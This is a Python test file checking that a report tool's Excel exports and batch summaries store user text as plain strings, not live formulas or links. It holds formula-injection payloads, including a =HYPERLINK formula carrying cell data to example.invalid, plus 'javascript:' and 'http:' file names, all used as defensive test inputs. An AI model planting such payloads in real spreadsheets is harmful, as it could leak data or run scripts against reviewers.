"""Formula injection: text we write into a workbook (the editor's 导出Excel, `export --to .xlsx`,
the batch's 汇总表) is a string cell, never a formula a reviewer's Excel would run; only our own
SUM totals and 相符/不符 checks are formulas."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from app import batch
from app.findings import VALUE_INVALID, Location
from app.io import save_report
from app.office import convert
from app.report import Report
from app.schema import TABLES, CellRef
from app.xlsx import read_xlsx
from app.xlsx_write import write_xlsx
from tests.helpers import run_app

# What a file author can type that a spreadsheet would take for a formula.
HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
           "\t=1+1", "\r\n=1+1", " =1+1", "＝1+1"]


def _report() -> tuple[Report, dict[CellRef, str]]:
    """A report whose organ and some unreadable cells (kept as text) are hostile."""
    report = Report(organ=HOSTILE[0], year=2024)
    spec = TABLES["二"]
    cells = [CellRef("二", c.row, c.col) for c in spec.cells][: len(HOSTILE)]
    raw = dict(zip(cells, HOSTILE, strict=True))
    report.raw.update(raw)
    return report, raw


def _ours(value: str) -> bool:
    return value.startswith(("=SUM(", "=IF("))


def _formulas(path: Path) -> list[tuple[str, str, object]]:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_text_is_written_as_text_and_reads_back(tmp_path: Path) -> None:
    report, raw = _report()
    dest = tmp_path / "表.xlsx"
    write_xlsx(report, dest)
    formulas = _formulas(dest)
    assert formulas and all(_ours(str(v)) for _, _, v in formulas), [f for f in formulas if not _ours(str(f[2]))]
    wb = openpyxl.load_workbook(dest)
    texts = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        cell = texts[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text  # Excel shows it as typed text; F2, Enter keeps it text
    assert not texts[TABLES["二"].title].quotePrefix  # plain text is not marked
    back = read_xlsx(dest)
    assert back.organ == HOSTILE[0]
    for ref, text in raw.items():
        assert back.raw.get(ref, "").strip() == text.strip(), ref


def test_cli_export_writes_a_cell_text_as_text(tmp_path: Path) -> None:
    """nianbao export 报告.docx --to 表.xlsx: a table cell of the .docx reading “=1+1”."""
    report, _raw = _report()
    src = tmp_path / "报告.docx"
    save_report(report, src)
    dest = tmp_path / "表.xlsx"
    done = run_app("export", src, "--to", dest)
    assert done.returncode == 0, done.stderr
    formulas = _formulas(dest)
    assert all(_ours(str(v)) for _, _, v in formulas), [f for f in formulas if not _ours(str(f[2]))]
    wb = openpyxl.load_workbook(dest)
    assert any(c.value == "=1+1" and c.data_type == "s" for row in wb["表二"].iter_rows() for c in row)


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None, reason="soffice not installed")
def test_libreoffice_shows_the_text(tmp_path: Path) -> None:
    """LibreOffice Calc, asked for every sheet as CSV, shows “=1+1”, not 2, and the organ's
    =HYPERLINK text, not a link."""
    report, _raw = _report()
    dest = tmp_path / "表.xlsx"
    write_xlsx(report, dest)
    out = convert(dest, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                  tmp_path / "lo")
    assert out is not None or list((tmp_path / "lo").glob("*.csv"))
    sheets = {p.stem: p.read_text(encoding="utf-8") for p in (tmp_path / "lo").glob("*.csv")}
    t2 = next(text for name, text in sheets.items() if name.endswith("表二"))
    meta = next(text for name, text in sheets.items() if name.endswith("基本信息"))
    cells = [c for row in csv.reader(io.StringIO(t2)) for c in row]
    for text in ("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "＝1+1"):
        assert text in cells, (text, t2)
    assert HOSTILE[0] in [c for row in csv.reader(io.StringIO(meta)) for c in row]


def test_the_batch_summary_writes_every_text_as_text(tmp_path: Path) -> None:
    """An organ, a file name and a finding's message starting with each of = + - @."""
    results = [batch.FileResult(str(tmp_path / f"{text.strip()}.docx"), organ=text, year=2024,
                                findings=[VALUE_INVALID.at(Location("三"), text)])
               for text in HOSTILE]
    dest = tmp_path / "汇总.xlsx"
    batch.write_summary(batch.Batch(results, base=tmp_path), dest)
    assert _formulas(dest) == []
    wb = openpyxl.load_workbook(dest)
    organs = {c.value: c for c in wb["汇总"][get_column_letter(batch.SUMMARY_HEADER.index("机关名称") + 1)][1:]}
    messages = {c.value: c for c in wb["全部问题"]["G"][1:]}
    for text in HOSTILE:
        assert organs[text].data_type == "s" and organs[text].quotePrefix, text
        assert messages[text].data_type == "s" and messages[text].quotePrefix, text


@pytest.mark.parametrize("name", ["http:evil.example.docx", "javascript:alert(1).docx", "file:报告.docx"])
def test_a_file_name_that_looks_like_a_link_is_linked_as_a_file(tmp_path: Path, name: str) -> None:
    """The 汇总 sheet links each file (its 打开 cell) by its path relative to the workbook: a name
    (or a folder's) whose first part reads like a scheme is written “./name”, a file, never a URL."""
    (tmp_path / name).write_bytes(b"")
    results = [batch.FileResult(str(tmp_path / name), organ="某局", year=2024)]
    dest = tmp_path / "汇总.xlsx"
    batch.write_summary(batch.Batch(results, base=tmp_path), dest)
    row = openpyxl.load_workbook(dest)["汇总"][2]
    file, cell = row[batch.SUMMARY_HEADER.index("文件")], row[batch.SUMMARY_HEADER.index("打开")]
    assert file.value == name and file.hyperlink is None and file.data_type == "s"
    assert cell.value == "打开" and cell.hyperlink is not None
    assert cell.hyperlink.target == f"./{name}"
    assert (dest.parent / cell.hyperlink.target).resolve() == (tmp_path / name).resolve()


def test_a_text_past_excels_cell_limit_is_cut_saying_so(tmp_path: Path) -> None:
    """A page pasted into the organ's field or a table cell (40,000 characters; 20,000 outside the
    BMP are 40,000 UTF-16 units): written whole, Excel calls the exported workbook damaged and
    “repairs” it.  Each cell holds at most Excel's 32,767 units, the cut said at its end; a text
    at the limit is whole."""
    from app.xlsxcell import CUT_MARK, MAX_CELL_UNITS

    report = Report(organ="某" * 40_000, year=2024)
    cells = [CellRef("二", c.row, c.col) for c in TABLES["二"].cells]
    report.raw.update({cells[0]: "𠀀" * 20_000, cells[1]: "整" * MAX_CELL_UNITS})
    dest = tmp_path / "长.xlsx"
    write_xlsx(report, dest)
    texts = [c.value for ws in openpyxl.load_workbook(dest) for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]

    def units(text: str) -> int:
        return len(text.encode("utf-16-le")) // 2

    assert max(map(units, texts)) == MAX_CELL_UNITS
    cut = [t for t in texts if t.endswith(CUT_MARK)]
    assert {t[0] for t in cut} == {"某", "𠀀"} and all(units(t) <= MAX_CELL_UNITS for t in cut)
    assert "整" * MAX_CELL_UNITS in texts
    assert read_xlsx(dest).organ.startswith("某" * 30_000)  # our own export still reads
